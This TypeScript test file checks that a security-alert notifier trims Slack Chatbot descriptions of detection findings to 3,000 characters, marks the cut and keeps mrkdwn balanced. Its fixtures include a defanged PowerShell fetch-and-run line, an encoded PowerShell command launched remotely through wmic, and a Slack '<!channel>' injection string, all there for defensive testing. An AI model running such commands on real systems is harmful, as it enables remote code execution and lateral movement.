/**
 * Slack shows at most 3,000 characters of a section (https://api.slack.com/reference/block-kit/blocks#section):
 * every Chatbot description the notifier builds fits, says where it was cut, and stays valid mrkdwn.
 */
import { describe, expect, it } from 'vitest';
import { composeFinding, renderChatbot, renderDigest } from '../../lambda/notify/index.js';
import { makeContext, makeFinding } from '../fixtures/notify/findings.js';

const MARKER = /… \(cut: (\d+) more characters; full text in the email\)/;

/** Code fences pair up, and no inline span is left open on any line outside them. */
function balanced(text: string): boolean {
  if ((text.match(/```/g) ?? []).length % 2 !== 0) return false;
  const outside = text.split('```').filter((_, i) => i % 2 === 0).join('\n');
  return outside.split('\n').every((line) => (line.match(/`/g) ?? []).length % 2 === 0);
}

describe('Chatbot descriptions fit one Slack section', () => {
  it('keeps an ordinary finding whole: no cut, no marker', () => {
    const d = renderChatbot(makeFinding(), makeContext()).content.description;
    expect(d.length).toBeLessThanOrEqual(3_000);
    expect(d).not.toMatch(MARKER);
    expect(d).toContain('iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)');
  });

  it('cuts a 2,500-character payload to fit, keeps the facts and the drill-down, and says how much is missing', () => {
    const payload = `powershell -enc ${'SQBFAFgA'.repeat(311)}`;
    const f = makeFinding({ remoteCommand: payload, commandLine: `wmic /node:"FS01" process call create "${payload}"` });
    const m = composeFinding(f, makeContext());
    const outer = JSON.parse(m.message) as Record<string, string>;
    const d = (JSON.parse(outer['https'] ?? '') as { content: { description: string } }).content.description;

    expect(d.length).toBeLessThanOrEqual(3_000);
    expect(d.length).toBeGreaterThan(2_500); // the room is used, not thrown away
    expect(d).toContain('*Source:* `WKS-FIN-042`');
    expect(d).toContain('*Drill down in XSIAM:*');
    expect(d).toMatch(MARKER);
    expect(balanced(d)).toBe(true);
    // the full text stays in the email and the JSON
    expect(outer['email']).toContain(payload);
    expect(JSON.parse(outer['default'] ?? '')).toMatchObject({ remoteCommand: { value: payload, truncated: false } });
  });

  it('counts the rendered text: escaping that grows `&` fivefold is measured, not estimated', () => {
    const amp = '&'.repeat(2_000);
    const d = renderChatbot(makeFinding({ remoteCommand: amp, commandLine: amp }), makeContext()).content.description;
    expect(d.length).toBeLessThanOrEqual(3_000);
    expect(d).not.toMatch(/&a?m?p?\n/); // no half entity before a line break
    expect(balanced(d)).toBe(true);
  });

  it('fits even when hostile host, user and parent names alone are too long for a section', () => {
    const huge = '<!channel>&'.repeat(60);
    const d = renderChatbot(makeFinding({ sourceHost: huge, targetHost: huge, user: huge, parentImage: huge }), makeContext()).content.description;
    expect(d.length).toBeLessThanOrEqual(3_000);
    expect(d).toMatch(MARKER);
    expect(balanced(d)).toBe(true);
    expect(d).not.toContain('<!channel>');
  });

  it('cuts a storm digest whose rows are too long, at a row boundary, with the marker', () => {
    const long = 'x&'.repeat(300);
    const fs = Array.from({ length: 40 }, (_, i) => makeFinding({ sourceHost: `${long}${i}`, targetHost: long, remoteCommand: long }));
    const d = renderDigest(fs, makeContext(), 25).chatbot.content.description;
    expect(d.length).toBeLessThanOrEqual(3_000);
    expect(d).toContain('this digest replaces the 40 per-pair messages');
    expect(d).toMatch(MARKER);
    expect(balanced(d)).toBe(true);
  });
});
